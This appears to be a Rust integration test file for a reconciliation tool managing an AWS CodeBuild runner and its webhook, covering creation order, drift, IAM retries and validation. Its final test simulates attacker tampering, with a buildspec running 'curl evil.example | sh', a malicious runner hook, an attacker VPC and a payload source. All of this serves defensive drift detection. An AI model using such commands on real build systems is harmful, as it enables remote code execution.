//! The runner project and its webhook: ordering after the role, adoption, drift, the IAM
//! propagation wait, replacement, and what validate refuses or warns about.

use aws_sdk_codebuild as codebuild;
use reconcile_test_support::{TestAccount, emulator};

use crate::support::{desired_file, json_changes, reconcile, small_account, small_account_with_runner};

fn client(account: &TestAccount) -> codebuild::Client {
    codebuild::Client::new(&account.sdk_config())
}

fn filter(kind: codebuild::types::WebhookFilterType, pattern: &str) -> codebuild::types::WebhookFilter {
    codebuild::types::WebhookFilter::builder().r#type(kind).pattern(pattern).build().unwrap()
}

/// The line index of the first line of `text` that starts with `prefix`.
fn line_of(text: &str, prefix: &str) -> usize {
    text.lines().position(|line| line.starts_with(prefix)).unwrap_or_else(|| panic!("no line `{prefix}` in:\n{text}"))
}

#[tokio::test]
async fn an_empty_account_gets_the_role_first_then_the_project_then_the_webhook() {
    let account = emulator().new_account().await;
    let desired = desired_file(&small_account_with_runner(&["pytorch"]));
    let apply = reconcile(&account, &desired.path, &["apply", "--auto-approve"]);
    assert_eq!(apply.code, 0, "{}{}", apply.stdout, apply.stderr);
    let out = &apply.stdout;
    assert!(
        line_of(out, "iam_role.codebuild: Creation complete") < line_of(out, "codebuild_project.runner: Creating..."),
        "{out}"
    );
    assert!(
        line_of(out, "iam_role_policy.codebuild: Creation complete")
            < line_of(out, "codebuild_project.runner: Creating..."),
        "{out}"
    );
    assert!(
        line_of(out, "codebuild_project.runner: Creation complete")
            < line_of(out, "codebuild_webhook.runner: Creating..."),
        "{out}"
    );

    let projects = client(&account).batch_get_projects().names("rocm-bake").send().await.unwrap();
    let project = &projects.projects()[0];
    let environment = project.environment().unwrap();
    assert_eq!(environment.compute_type().as_str(), "BUILD_GENERAL1_XLARGE");
    assert_eq!(environment.privileged_mode(), Some(true));
    assert_eq!(project.timeout_in_minutes(), Some(240));
    assert_eq!(project.service_role(), Some(format!("arn:aws:iam::{}:role/rocm-bake-codebuild", account.id).as_str()));
    assert_eq!(project.webhook().unwrap().filter_groups().len(), 2);
    assert_eq!(reconcile(&account, &desired.path, &["plan", "--detailed-exitcode"]).code, 0);
}

#[tokio::test]
async fn a_project_and_webhook_made_by_hand_with_the_same_meaning_show_no_drift() {
    let account = emulator().new_account().await;
    let desired = desired_file(&small_account_with_runner(&["pytorch"]));
    assert_eq!(reconcile(&account, &desired.path, &["apply", "--auto-approve"]).code, 0);
    let client = client(&account);
    // Made again by hand: groups in the other order, filters reversed, an EVENT pattern with a
    // leading space, no queued timeout declared (AWS answers its own 480).
    client.delete_webhook().project_name("rocm-bake").send().await.unwrap();
    client.delete_project().name("rocm-bake").send().await.unwrap();
    client
        .create_project()
        .name("rocm-bake")
        .description("Ephemeral GitHub Actions runner for the ROCm nightly image builds")
        .source(
            codebuild::types::ProjectSource::builder()
                .r#type(codebuild::types::SourceType::Github)
                .location("https://github.com/ROCm/rocm-bake")
                .build()
                .unwrap(),
        )
        .artifacts(
            codebuild::types::ProjectArtifacts::builder()
                .r#type(codebuild::types::ArtifactsType::NoArtifacts)
                .build()
                .unwrap(),
        )
        .environment(
            codebuild::types::ProjectEnvironment::builder()
                .r#type(codebuild::types::EnvironmentType::LinuxContainer)
                .compute_type(codebuild::types::ComputeType::BuildGeneral1Xlarge)
                .image("aws/codebuild/amazonlinux-x86_64-standard:5.0")
                .privileged_mode(true)
                .build()
                .unwrap(),
        )
        .service_role(format!("arn:aws:iam::{}:role/rocm-bake-codebuild", account.id))
        .timeout_in_minutes(240)
        .logs_config(
            codebuild::types::LogsConfig::builder()
                .cloud_watch_logs(
                    codebuild::types::CloudWatchLogsConfig::builder()
                        .status(codebuild::types::LogsConfigStatusType::Enabled)
                        .group_name("/aws/codebuild/rocm-bake")
                        .build()
                        .unwrap(),
                )
                .build(),
        )
        .tags(codebuild::types::Tag::builder().key("project").value("rocm-bake").build())
        // Made again as reconcile makes it: with the mark.
        .tags(codebuild::types::Tag::builder().key(crate::support::MARK.0).value(crate::support::MARK.1).build())
        .send()
        .await
        .unwrap();
    use codebuild::types::WebhookFilterType as Type;
    client
        .create_webhook()
        .project_name("rocm-bake")
        .filter_groups(vec![filter(Type::ActorAccountId, "1234567"), filter(Type::Event, " WORKFLOW_JOB_QUEUED")])
        .filter_groups(vec![filter(Type::RepositoryName, "^rocm-bake$"), filter(Type::Event, "WORKFLOW_JOB_QUEUED ")])
        .send()
        .await
        .unwrap();

    let plan = reconcile(&account, &desired.path, &["plan", "--detailed-exitcode"]);
    assert_eq!(plan.code, 0, "{}{}", plan.stdout, plan.stderr);
}

#[tokio::test]
async fn privileged_mode_turned_off_and_a_filter_removed_are_one_update_each() {
    let account = emulator().new_account().await;
    let desired = desired_file(&small_account_with_runner(&["pytorch"]));
    assert_eq!(reconcile(&account, &desired.path, &["apply", "--auto-approve"]).code, 0);
    let client = client(&account);
    let project = client.batch_get_projects().names("rocm-bake").send().await.unwrap().projects()[0].clone();
    let mut environment = project.environment().unwrap().clone();
    environment.privileged_mode = Some(false);
    client.update_project().name("rocm-bake").environment(environment).send().await.unwrap();
    use codebuild::types::WebhookFilterType as Type;
    client
        .update_webhook()
        .project_name("rocm-bake")
        .filter_groups(vec![filter(Type::Event, "WORKFLOW_JOB_QUEUED"), filter(Type::RepositoryName, "^rocm-bake$")])
        .filter_groups(vec![filter(Type::Event, "WORKFLOW_JOB_QUEUED")])
        .send()
        .await
        .unwrap();

    let plan = reconcile(&account, &desired.path, &["plan", "--format", "json", "--detailed-exitcode"]);
    assert_eq!(plan.code, 2, "{}", plan.stderr);
    assert_eq!(json_changes(&plan.stdout), ["update codebuild_project.runner", "update codebuild_webhook.runner"]);
    let text = reconcile(&account, &desired.path, &["plan"]);
    assert!(text.stdout.contains("~ privileged_mode = false -> true"), "{}", text.stdout);
    assert!(text.stdout.contains("+      \"pattern\": \"1234567\","), "{}", text.stdout);

    let apply = reconcile(&account, &desired.path, &["apply", "--auto-approve"]);
    assert_eq!(apply.code, 0, "{}{}", apply.stdout, apply.stderr);
    assert_eq!(reconcile(&account, &desired.path, &["plan", "--detailed-exitcode"]).code, 0);
}

#[tokio::test]
async fn apply_waits_for_iam_when_codebuild_cannot_assume_the_new_role_yet() {
    let account = emulator().new_account().await;
    let desired = desired_file(&small_account_with_runner(&["pytorch"]));
    account.fail_create_project(3);
    let apply = reconcile(&account, &desired.path, &["apply", "--auto-approve"]);
    assert_eq!(apply.code, 0, "{}{}", apply.stdout, apply.stderr);
    let waits: Vec<&str> =
        apply.stdout.lines().filter(|l| l.starts_with("codebuild_project.runner: waiting for IAM")).collect();
    assert_eq!(waits.len(), 3, "{}", apply.stdout);
    assert!(waits[0].ends_with("retrying in 1s"), "{}", waits[0]);
    assert!(waits[2].ends_with("retrying in 4s"), "{}", waits[2]);
    assert!(apply.stdout.contains("codebuild_project.runner: Creation complete after"));
    let creates = account.requests().iter().filter(|r| r.to_string() == "codebuild:CreateProject").count();
    assert_eq!(creates, 4);
    assert!(!apply.stdout.contains('\x1b'), "no spinner when stdout is not a terminal");
    assert_eq!(reconcile(&account, &desired.path, &["plan", "--detailed-exitcode"]).code, 0);
}

#[tokio::test]
async fn on_a_terminal_a_spinner_shows_what_is_still_in_flight() {
    let account = emulator().new_account().await;
    let desired = desired_file(&small_account_with_runner(&["pytorch"]));
    account.fail_create_project(2);
    let (code, screen) = crate::support::apply_on_a_terminal(&account, &desired.path, "--auto-approve", "");
    assert_eq!(code, 0, "{screen}");
    assert!(screen.contains(" applying codebuild_project.runner"), "{screen}");
    assert!(screen.contains("\r\x1b[2Kcodebuild_project.runner: Creation complete after"), "{screen}");
}

#[tokio::test]
async fn a_webhook_field_update_webhook_cannot_change_replaces_it_and_that_needs_allow_delete() {
    let account = emulator().new_account().await;
    let desired = desired_file(&small_account_with_runner(&["pytorch"]));
    assert_eq!(reconcile(&account, &desired.path, &["apply", "--auto-approve"]).code, 0);

    let manual = desired_file(&small_account_with_runner(&["pytorch"]).replace(
        "[codebuild.projects.runner.webhook]\n",
        "[codebuild.projects.runner.webhook]\nmanual_creation = true\n",
    ));
    let plan = reconcile(&account, &manual.path, &["plan", "--format", "json"]);
    let json: serde_json::Value = serde_json::from_str(&plan.stdout).unwrap();
    assert_eq!(json["resource_changes"][0]["change"]["actions"], serde_json::json!(["delete", "create"]));
    let text = reconcile(&account, &manual.path, &["plan"]);
    assert!(text.stdout.contains("  # codebuild_webhook.runner must be replaced\n  -/+ codebuild_webhook.runner {"));
    assert!(text.stdout.contains("Plan: 1 to add, 0 to change, 1 to destroy."), "{}", text.stdout);

    let refused = reconcile(&account, &manual.path, &["apply", "--auto-approve"]);
    assert_eq!(refused.code, 3, "{}", refused.stderr);
    let replaced = reconcile(&account, &manual.path, &["apply", "--auto-approve", "--allow-delete"]);
    assert_eq!(replaced.code, 0, "{}{}", replaced.stdout, replaced.stderr);
    let writes: Vec<String> = account.writes().iter().rev().take(2).map(ToString::to_string).collect();
    assert_eq!(writes, ["codebuild:CreateWebhook", "codebuild:DeleteWebhook"]);
    assert_eq!(reconcile(&account, &manual.path, &["plan", "--detailed-exitcode"]).code, 0);
}

#[tokio::test]
async fn lambda_compute_is_refused_before_any_aws_call() {
    let account = emulator().new_account().await;
    for (from, to) in [
        ("service_role = \"codebuild\"", "environment_type = \"LINUX_LAMBDA_CONTAINER\"\nservice_role = \"codebuild\""),
        ("service_role = \"codebuild\"", "compute_type = \"BUILD_LAMBDA_10GB\"\nservice_role = \"codebuild\""),
    ] {
        let desired = desired_file(&small_account_with_runner(&["pytorch"]).replace(from, to));
        for command in [&["validate"][..], &["plan"], &["apply", "--auto-approve"]] {
            let run = reconcile(&account, &desired.path, command);
            assert_eq!(run.code, 1, "{command:?}");
            assert!(
                run.stderr.contains("Lambda compute cannot run the nightly: it allows no Docker builds"),
                "{}",
                run.stderr
            );
        }
    }
    assert_eq!(account.requests(), []);
}

#[tokio::test]
async fn privileged_mode_off_and_timeouts_out_of_range_are_refused_with_their_reasons() {
    let account = emulator().new_account().await;
    let text = small_account_with_runner(&["pytorch"]).replace(
        "build_timeout_hours = 4",
        "build_timeout_hours = 40\nprivileged_mode = false\nqueued_timeout_minutes = 1",
    );
    let run = reconcile(&account, &desired_file(&text).path, &["validate"]);
    assert_eq!(run.code, 1);
    assert!(
        run.stderr.contains(
            "`codebuild.projects.runner.privileged_mode`: privileged mode must be on: BuildKit needs a Docker daemon"
        ),
        "{}",
        run.stderr
    );
    assert!(run.stderr.contains("`codebuild.projects.runner.build_timeout_hours`: 40 hours is outside what CodeBuild allows, 5 to 2160 minutes"), "{}", run.stderr);
    assert!(
        run.stderr.contains("`codebuild.projects.runner.queued_timeout_minutes`: must be 5 to 480 minutes"),
        "{}",
        run.stderr
    );
    let text = small_account(&["pytorch"])
        + &crate::support::RUNNER.replace("service_role = \"codebuild\"", "service_role = \"builder\"");
    let run = reconcile(&account, &desired_file(&text).path, &["validate"]);
    assert!(run.stderr.contains("no role `builder` under `[iam.roles]`"), "{}", run.stderr);
    assert_eq!(account.requests(), []);
}

#[tokio::test]
async fn a_webhook_with_only_the_event_filter_is_warned_about_and_the_warning_is_in_the_plan() {
    let account = emulator().new_account().await;
    let text = small_account(&["pytorch"])
        + &crate::support::RUNNER.replace(
            "  [{ type = \"EVENT\", pattern = \"WORKFLOW_JOB_QUEUED\" }, { type = \"ACTOR_ACCOUNT_ID\", pattern = \"1234567\" }],\n",
            "  [{ type = \"EVENT\", pattern = \"WORKFLOW_JOB_QUEUED\" }],\n",
        );
    let desired = desired_file(&text);
    let run = reconcile(&account, &desired.path, &["validate"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(run.stderr.starts_with("warning: [W201] "), "{}", run.stderr);
    assert!(run.stderr.contains("`codebuild.projects.runner.webhook.filter_groups[1]`: this filter group has only its EVENT filter, so a pull request from any fork can start a build"), "{}", run.stderr);
    let plan = reconcile(&account, &desired.path, &["plan"]);
    assert!(plan.stdout.contains("Warning [W201] codebuild_webhook.runner: "), "{}", plan.stdout);
}

/// One out-of-band `UpdateProject`, ready to send.
type OutOfBand<'a> = Box<dyn Fn() -> codebuild::operation::update_project::builders::UpdateProjectFluentBuilder + 'a>;

/// What an attacker with `codebuild:UpdateProject` would set on a runner that builds pull
/// requests: each one, alone, is drift that `drift` reports with exit 2, and apply removes it.
#[tokio::test]
async fn every_way_to_run_other_code_on_the_runner_is_drift_and_apply_removes_it() {
    let account = emulator().new_account().await;
    let desired = desired_file(&small_account_with_runner(&["pytorch"]));
    assert_eq!(reconcile(&account, &desired.path, &["apply", "--auto-approve"]).code, 0);
    let client = client(&account);
    let live = || async { client.batch_get_projects().names("rocm-bake").send().await.unwrap().projects()[0].clone() };
    let project = live().await;
    let hook = codebuild::types::EnvironmentVariable::builder()
        .name("ACTIONS_RUNNER_HOOK_JOB_STARTED")
        .value("/tmp/x.sh")
        .build()
        .unwrap();
    let mut with_variable = project.environment().unwrap().clone();
    with_variable.environment_variables = Some(vec![hook]);
    let mut with_buildspec = project.source().unwrap().clone();
    with_buildspec.buildspec = Some("version: 0.2\nphases:\n  build:\n    commands: [curl evil.example | sh]\n".into());
    let vpc = codebuild::types::VpcConfig::builder()
        .vpc_id("vpc-0attacker")
        .subnets("subnet-1")
        .security_group_ids("sg-1")
        .build();
    let secondary = codebuild::types::ProjectSource::builder()
        .r#type(codebuild::types::SourceType::Github)
        .location("https://github.com/attacker/payload")
        .source_identifier("payload")
        .build()
        .unwrap();

    let changes: [(&str, OutOfBand); 4] = [
        (
            "environment_variables",
            Box::new(|| client.update_project().name("rocm-bake").environment(with_variable.clone())),
        ),
        ("buildspec", Box::new(|| client.update_project().name("rocm-bake").source(with_buildspec.clone()))),
        ("vpc_config", Box::new(|| client.update_project().name("rocm-bake").vpc_config(vpc.clone()))),
        (
            "secondary_sources",
            Box::new(|| client.update_project().name("rocm-bake").secondary_sources(secondary.clone())),
        ),
    ];
    for (field, change) in changes {
        change().send().await.unwrap();
        let drift = reconcile(&account, &desired.path, &["drift", "--format", "json"]);
        assert_eq!(drift.code, 2, "{field}: {}{}", drift.stdout, drift.stderr);
        assert_eq!(json_changes(&drift.stdout), ["update codebuild_project.runner"], "{field}");
        let plan: serde_json::Value = serde_json::from_str(&drift.stdout).unwrap();
        let project_change = &plan["resource_changes"][0]["change"];
        assert_ne!(project_change["before"][field], project_change["after"][field], "{field}");
        let apply = reconcile(&account, &desired.path, &["apply", "--auto-approve"]);
        assert_eq!(apply.code, 0, "{field}: {}{}", apply.stdout, apply.stderr);
        let after = reconcile(&account, &desired.path, &["drift"]);
        assert_eq!(after.code, 0, "{field}: {}{}", after.stdout, after.stderr);
    }
    // Plain-text values are never shown: plans go into PR comments.
    client.update_project().name("rocm-bake").environment(with_variable.clone()).send().await.unwrap();
    let text = reconcile(&account, &desired.path, &["plan"]);
    assert!(text.stdout.contains("ACTIONS_RUNNER_HOOK_JOB_STARTED"), "{}", text.stdout);
    assert!(!text.stdout.contains("/tmp/x.sh"), "{}", text.stdout);
    let project = live().await;
    assert!(project.environment().unwrap().environment_variables().len() == 1);
}
